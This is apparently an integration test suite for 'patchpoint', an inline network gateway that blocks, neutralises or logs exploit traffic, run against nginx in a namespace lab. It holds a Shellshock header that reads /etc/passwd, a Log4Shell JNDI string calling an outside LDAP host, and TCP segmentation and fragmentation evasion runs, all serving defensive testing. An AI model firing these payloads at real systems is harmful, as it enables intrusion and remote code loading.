/**
 * The inline gateway in network namespaces (topology in lab.ts): real nginx, real curl, scapy,
 * and nmap's NSE exploit checks. Policy: port 80 drop, 81 fix, 82 log; 8080 unprotected (kernel bridge).
 */
import {describe, it, expect, beforeAll, afterAll} from 'vitest'
import {createHash} from 'node:crypto'
import fs from 'node:fs'
import path from 'node:path'
import {fileURLToPath} from 'node:url'
import type {ChildProcess} from 'node:child_process'
import {CLIENT_IP, GatewayLab, SERVER_IP, labSkipReason, linesOf, textOf, waitFor} from './lab.js'

const skip = labSkipReason()
if (skip) console.warn(`skipping the inline gateway suite: ${skip}`)
const repo = fileURLToPath(new URL('../../', import.meta.url))
const bin = path.join(repo, 'bin/run.js')
const evade = fileURLToPath(new URL('./evade.py', import.meta.url))
const SHELLSHOCK_UA = '() { :; }; /bin/cat /etc/passwd'
const LOG4SHELL_UA = '${jndi:ldap://203.0.113.9:1389/a}'
const EVASIONS = ['segments', 'fragments', 'overlap', 'conflict'] as const

describe.skipIf(skip !== null)('patchpoint run --iface (inline, namespaces)', () => {
  let lab: GatewayLab
  let gw: ChildProcess
  let out = ''
  let accessLog = ''
  let oneMbSha = ''
  let eventsFile = ''
  let policy = ''

  const curl = (args: string, timeoutMs = 30_000) => lab.curl(args, timeoutMs)
  const access = () => textOf(accessLog)
  const events = () => linesOf(eventsFile)

  beforeAll(async () => {
    lab = new GatewayLab()
    lab.create()
    const ng = lab.startNginx([80, 81, 82, 8080])
    accessLog = ng.accessLog
    oneMbSha = createHash('sha256').update(fs.readFileSync(ng.oneMb)).digest('hex')
    policy = path.join(lab.dir, 'policy.json')
    fs.writeFileSync(policy, JSON.stringify({services: [
      {ip: SERVER_IP, port: 80, proto: 'tcp', action: 'drop'},
      {ip: SERVER_IP, port: 81, proto: 'tcp', action: 'fix'},
      {ip: SERVER_IP, port: 82, proto: 'tcp', action: 'log'},
    ]}))
    eventsFile = path.join(lab.dir, 'events.json')
    // a stats line every second: (c) reads the forwarder's counters from it
    gw = lab.spawn(lab.gw, [process.execPath, bin, 'run', '--iface', 'ga,gb', '--policy', policy, '--events', eventsFile, '--stats-interval', '1'])
    gw.stdout!.on('data', (d: Buffer) => (out += d.toString()))
    gw.stderr!.on('data', (d: Buffer) => (out += d.toString()))
    const ready = await waitFor(() => out.includes('patchpoint: ready') || gw.exitCode !== null, 90_000)
    if (!ready || gw.exitCode !== null) throw new Error(`gateway did not start: ${out}`)
    // the bridge learns both ends
    await waitFor(() => lab.try(lab.client, `ping -c1 -W1 ${SERVER_IP}`).code === 0, 10_000, 200)
  })

  afterAll(() => {
    lab?.destroy()
  })

  it('(a) a 1 MB download on a protected port arrives byte for byte', () => {
    const r = curl(`-o - http://${SERVER_IP}:80/1mb.bin | sha256sum`)
    expect(r.code).toBe(0)
    expect(r.out.split(' ')[0]).toBe(oneMbSha)
  })

  it('(b) an unprotected port passes through the kernel bridge while the engine runs', () => {
    const r = curl(`-o - http://${SERVER_IP}:8080/1mb.bin | sha256sum`)
    expect(r.out.split(' ')[0]).toBe(oneMbSha)
    expect(gw.exitCode).toBeNull()
  })

  it('(c) drop: Shellshock and Log4Shell get a reset / empty reply and never reach nginx', () => {
    for (const [marker, ua] of [['pp-drop-ss', SHELLSHOCK_UA], ['pp-drop-l4', LOG4SHELL_UA]]) {
      const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${ua}' http://${SERVER_IP}:80/${marker}`, 10_000)
      expect(r.code, r.out).not.toBe(0)
      expect(access()).not.toContain(marker)
    }
    const ok = curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-after-drop`)
    expect(ok.out).toBe('200')
  })

  it('(c) fix: the request arrives neutralised and the session lives (200)', async () => {
    const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${SHELLSHOCK_UA}' http://${SERVER_IP}:81/pp-fix-ss`)
    expect(r.out).toBe('200')
    await waitFor(() => access().includes('pp-fix-ss'), 2000)
    const line = access().split('\n').find((l) => l.includes('pp-fix-ss'))!
    expect(line).toBeDefined()
    expect(line).not.toContain('() {')
    const r2 = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${LOG4SHELL_UA}' http://${SERVER_IP}:81/pp-fix-l4`)
    expect(r2.out).toBe('200')
    await waitFor(() => access().includes('pp-fix-l4'), 2000)
    const line2 = access().split('\n').find((l) => l.includes('pp-fix-l4'))!
    expect(line2).not.toContain('${jndi:')
  })

  it('(c) log: the request arrives unchanged and an alert is written', async () => {
    const r = curl(`-o /dev/null -w '%{http_code}' -H 'User-Agent: ${SHELLSHOCK_UA}' http://${SERVER_IP}:82/pp-log-ss`)
    expect(r.out).toBe('200')
    await waitFor(() => access().includes('pp-log-ss'), 2000)
    expect(access().split('\n').find((l) => l.includes('pp-log-ss'))).toContain('() { :; }')
    await waitFor(() => out.includes('PP-SHELLSHOCK') && out.includes(':82'), 3000)
    expect(out).toMatch(/log PP-SHELLSHOCK .*:82/)
  })

  it("(c) drop: nmap's own HTTP exploit checks (NSE scripts, unchanged) raise their rules and their exploit requests never reach nginx", async () => {
    // [script, rule, what nginx's access log (request line and User-Agent) would show of the exploit request]
    const checks = [
      ['http-shellshock', 'PP-SHELLSHOCK', '() { :;}; echo'],
      ['http-vuln-cve2012-1823', 'PP-2012-1823', 'allow_url_include'],
      ['http-vuln-cve2015-1635', 'PP-2015-1635', null],
      ['http-vuln-cve2017-5638', 'PP-2017-5638', null],
    ] as const
    const alertsOf = (rule: string) => events().filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as {event_type: string; dest_port?: number; patchpoint?: {rule_id?: string; action?: string}})
      .filter((e) => e.event_type === 'alert' && e.dest_port === 80 && e.patchpoint?.rule_id === rule)
    for (const [script, rule, marker] of checks) {
      const before = alertsOf(rule).length
      const r = lab.try(lab.client, `timeout 100 nmap -n -Pn -sT -p 80 --script ${script} ${SERVER_IP} 2>&1`, 110_000)
      expect(r.code, r.out).toBe(0)
      expect(await waitFor(() => alertsOf(rule).length > before, 5000), `${script}: ${r.out}`).toBe(true)
      expect(alertsOf(rule).slice(before).every((e) => e.patchpoint?.action === 'drop')).toBe(true)
      if (marker !== null) expect(access(), script).not.toContain(marker)
    }
  }, 300_000)

  it('(c) an Upgrade on a keep-alive connection whose responses were bypassed waits for the bypass delete, not for the hold timeout', async () => {
    const waits = () => Math.max(0, ...[...out.matchAll(/ unbypassWaits=(\d+)/g)].map((m) => Number(m[1])))
    const before = waits()
    // request 1 passes and its response is handed to the kernel; request 2 asks to upgrade: held
    // until an nft process has deleted the bypass element, then forwarded (nginx answers 200)
    const started = Date.now()
    const r = curl(`-o /dev/null -w '%{http_code} %{num_connects}\\n' http://${SERVER_IP}:80/pp-up-1 --next -o /dev/null -w '%{http_code} %{num_connects}\\n' ` +
      `-H 'Upgrade: websocket' -H 'Connection: Upgrade' http://${SERVER_IP}:80/pp-up-2`)
    const took = Date.now() - started
    // both answered, on one connection (the second made no new connect)
    expect(r.out.trim().split('\n'), r.out).toEqual(['200 1', '200 0'])
    expect(took).toBeLessThan(5000)
    expect(access()).toContain('pp-up-2')
    // the Upgrade ended a bypass and waited for it (the next stats line counts it)
    expect(await waitFor(() => waits() > before, 3000), out.split('\n').filter((l) => l.startsWith('stats')).at(-1)).toBe(true)
  })

  it('(d) the exploit in tiny, overlapping or conflicting TCP segments and in IP fragments is stopped, not one byte leaks', async () => {
    // the client kernel must not reset scapy's connections
    lab.sh(lab.client, "nft add table inet ev; nft add chain inet ev o '{ type filter hook output priority 0; }'; nft add rule inet ev o tcp flags rst drop")
    // every client->server TCP payload byte on the drop port, seen by the server's own interface
    const pcap = path.join(lab.dir, 'server-80.pcap')
    const td = lab.spawn(lab.server, ['tcpdump', '-U', '-nn', '-i', 's0', '-w', pcap, `tcp dst port 80 and src host ${CLIENT_IP}`])
    let tdErr = ''
    td.stderr!.on('data', (d: Buffer) => (tdErr += d.toString()))
    await waitFor(() => tdErr.includes('listening on'), 10_000)
    const blockedBefore = events().filter((l) => l.includes('"gateway.flow_blocked"')).length
    const ports = new Set<number>()
    let fragPort = 0
    for (const mode of EVASIONS) {
      const marker = `pp-evade-${mode}`
      const req = path.join(lab.dir, `${mode}.txt`)
      fs.writeFileSync(req, `GET /${marker} HTTP/1.1\r\nHost: ${SERVER_IP}\r\nUser-Agent: ${SHELLSHOCK_UA}\r\n\r\n`)
      const r = lab.try(lab.client, `/usr/bin/python3 ${evade} ${SERVER_IP} 80 ${mode} ${req}`, 30_000)
      expect(r.out).not.toContain('NOSYNACK')
      // the session is reset, the fragmented one too (a drop on a reassembled datagram ends the
      // session like any other)
      expect(r.out, r.out).toMatch(/^RST/)
      const sport = /SPORT (\d+)/.exec(r.out)
      if (sport) ports.add(Number(sport[1]))
      if (sport && mode === 'fragments') fragPort = Number(sport[1])
      expect(access(), `${mode}: ${r.out}`).not.toContain(marker)
    }
    await new Promise((res) => setTimeout(res, 300))
    td.kill('SIGINT')
    await waitFor(() => td.exitCode !== null, 5000)
    // every evasion's flow was blocked (other rules, e.g. the TCP-overlap evasion rule, may block
    // other flows too), and the server's interface saw the handshakes but no payload byte
    // (the event log is flushed about once a second: wait for the last evasion's event)
    const blockedPorts = () => new Set(events().filter((l) => l.includes('"gateway.flow_blocked"')).slice(blockedBefore)
      .map((l) => (JSON.parse(l) as {src_port?: number}).src_port))
    expect(ports.size).toBe(EVASIONS.length)
    await waitFor(() => [...ports].every((p) => blockedPorts().has(p)), 3000)
    const blocked = blockedPorts()
    for (const p of ports) expect(blocked.has(p), `flow from port ${p} blocked`).toBe(true)
    const seen = lab.sh(lab.server, `tcpdump -nn -r ${pcap} 2>/dev/null`)
    for (const p of ports) expect(seen, `handshake of ${p}`).toContain(`${CLIENT_IP}.${p} > `)
    const withData = seen.split('\n').filter((l) => / length [1-9]/.test(l))
    expect(withData, withData.join('\n')).toEqual([])
    // ... and the server got the reset of the fragmented exploit's session, in the client's name
    expect(fragPort).toBeGreaterThan(0)
    expect(seen.split('\n').some((l) => l.includes(`${CLIENT_IP}.${fragPort} > `) && l.includes('Flags [R')), seen).toBe(true)
    // controls: the same evasions on the log port do arrive, so each one works against nginx
    for (const mode of EVASIONS) {
      const req = path.join(lab.dir, `control-${mode}.txt`)
      fs.writeFileSync(req, `GET /pp-evade-control-${mode} HTTP/1.1\r\nHost: ${SERVER_IP}\r\nUser-Agent: ${SHELLSHOCK_UA}\r\n\r\n`)
      lab.try(lab.client, `/usr/bin/python3 ${evade} ${SERVER_IP} 82 ${mode} ${req}`, 30_000)
    }
    await waitFor(() => EVASIONS.every((m) => access().includes(`pp-evade-control-${m} `)), 3000)
    for (const mode of EVASIONS) expect(access().split('\n').find((l) => l.includes(`pp-evade-control-${mode} `)), mode).toContain('() { :; }')
    lab.sh(lab.client, 'nft delete table inet ev')
  }, 120_000)

  it('(e) kill -9: unprotected traffic never stops, protected traffic resumes within ~1 s', async () => {
    // a slow unprotected transfer spanning the kill
    const slow = lab.spawn(lab.client, ['sh', '-c', `curl -sS --limit-rate 1M -o - http://${SERVER_IP}:8080/4mb.bin | sha256sum`])
    let slowOut = ''
    slow.stdout!.on('data', (d: Buffer) => (slowOut += d.toString()))
    await new Promise((r) => setTimeout(r, 1000))
    const before = fs.readFileSync(path.join(lab.dir, 'www/4mb.bin'))
    process.kill(gw.pid!, 'SIGKILL')
    const killedAt = Date.now()
    let resumedMs = -1
    while (Date.now() - killedAt < 5000) {
      const r = curl(`-o /dev/null -w '%{http_code}' --connect-timeout 1 http://${SERVER_IP}:80/pp-after-kill`, 2000)
      if (r.out === '200') {
        resumedMs = Date.now() - killedAt
        break
      }
    }
    console.log(`fail-open: protected traffic resumed ${resumedMs} ms after kill -9`)
    expect(resumedMs).toBeGreaterThanOrEqual(0)
    expect(resumedMs).toBeLessThan(2500)
    await waitFor(() => slow.exitCode !== null, 15_000)
    expect(slowOut.split(' ')[0]).toBe(createHash('sha256').update(before).digest('hex'))
  })

  it('(f) --fail-closed: after kill -9 protected traffic stays blocked, unprotected traffic flows', async () => {
    // (e) left the bridge behind, as a killed gateway does: reuse it
    const bridge = /\(bridge (\S+)\)/.exec(out)?.[1]
    expect(bridge).toBeDefined()
    let out2 = ''
    const gw2 = lab.spawn(lab.gw, [process.execPath, bin, 'run', '--iface', 'ga,gb', '--bridge', bridge!, '--fail-closed', '--policy', policy,
      '--events', path.join(lab.dir, 'events-fc.json'), '--stats-interval', '0'])
    gw2.stdout!.on('data', (d: Buffer) => (out2 += d.toString()))
    gw2.stderr!.on('data', (d: Buffer) => (out2 += d.toString()))
    const ready = await waitFor(() => out2.includes('patchpoint: ready') || gw2.exitCode !== null, 90_000)
    expect(ready && gw2.exitCode === null, out2).toBe(true)
    expect(out2).toContain('fail-closed')
    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-fc-before`).out).toBe('200')
    const slow = lab.spawn(lab.client, ['sh', '-c', `curl -sS --limit-rate 1M -o - http://${SERVER_IP}:8080/4mb.bin | sha256sum`])
    let slowOut = ''
    slow.stdout!.on('data', (d: Buffer) => (slowOut += d.toString()))
    await new Promise((r) => setTimeout(r, 1000))
    process.kill(gw2.pid!, 'SIGKILL')
    await waitFor(() => gw2.exitCode !== null || gw2.signalCode !== null, 5000)
    // protected: nothing gets through for the next 3 s (well past the fail-open figure)
    const killedAt = Date.now()
    let tries = 0
    while (Date.now() - killedAt < 3000) {
      const r = curl(`-o /dev/null -w '%{http_code}' --connect-timeout 1 http://${SERVER_IP}:80/pp-fc-after-${tries}`, 2000)
      expect(r.out).not.toBe('200')
      tries++
    }
    expect(tries).toBeGreaterThan(0)
    expect(access()).not.toContain('pp-fc-after')
    // unprotected: the transfer spanning the kill completes intact, new sessions work
    await waitFor(() => slow.exitCode !== null, 15_000)
    expect(slowOut.split(' ')[0]).toBe(createHash('sha256').update(fs.readFileSync(path.join(lab.dir, 'www/4mb.bin'))).digest('hex'))
    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:8080/pp-fc-unprotected`).out).toBe('200')
    // the operator's way out: the table is ours and named
    lab.sh(lab.gw, 'nft delete table netdev patchpoint')
    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-fc-released`).out).toBe('200')
  }, 150_000)

  it('(g) divert veth pairs: replaced when a killed run left them, removed with the table on SIGTERM', async () => {
    // (f)'s kill -9 left ga's and gb's pairs behind (and the bridge of (e))
    const links = () => lab.sh(lab.gw, 'ip -o link show')
    expect(links()).toMatch(/ga-ppk@ga-ppe/)
    const bridge = /\(bridge (\S+)\)/.exec(out)?.[1]
    let out3 = ''
    const gw3 = lab.spawn(lab.gw, [process.execPath, bin, 'run', '--iface', 'ga,gb', '--bridge', bridge!, '--policy', policy,
      '--events', path.join(lab.dir, 'events-g.json'), '--stats-interval', '0'])
    gw3.stdout!.on('data', (d: Buffer) => (out3 += d.toString()))
    gw3.stderr!.on('data', (d: Buffer) => (out3 += d.toString()))
    const ready = await waitFor(() => out3.includes('patchpoint: ready') || gw3.exitCode !== null, 90_000)
    expect(ready && gw3.exitCode === null, out3).toBe(true)
    // a protected download: the client's frames come in through ga's pair (engine end receives)
    // and the engine sends them into gb's pair (engine end transmits), out of gb
    const stat = (dev: string, what: 'rx' | 'tx') => Number(lab.sh(lab.gw, `cat /sys/class/net/${dev}/statistics/${what}_packets`).trim())
    const before = [stat('ga-ppe', 'rx'), stat('gb-ppe', 'tx')]
    const r = curl(`-o - http://${SERVER_IP}:80/1mb.bin | sha256sum`)
    expect(r.out.split(' ')[0]).toBe(oneMbSha)
    expect(stat('ga-ppe', 'rx') - before[0]).toBeGreaterThanOrEqual(3)
    expect(stat('gb-ppe', 'tx') - before[1]).toBeGreaterThanOrEqual(3)
    // neither end of a pair has an IPv6 address (nothing of its own leaves through a port)
    expect(lab.sh(lab.gw, 'ip -o -6 addr show dev ga-ppe; ip -o -6 addr show dev ga-ppk').trim()).toBe('')
    gw3.kill('SIGTERM')
    await waitFor(() => gw3.exitCode !== null || gw3.signalCode !== null, 10_000)
    expect(links()).not.toMatch(/-pp[ke]/)
    expect(lab.sh(lab.gw, 'nft list tables')).not.toContain('patchpoint')
    // the bridge was not ours: it and its ports stay as found
    expect(links()).toMatch(new RegExp(`ga@\\S+: .* master ${bridge}`))
    expect(curl(`-o /dev/null -w '%{http_code}' http://${SERVER_IP}:80/pp-after-sigterm`).out).toBe('200')
  }, 120_000)
})
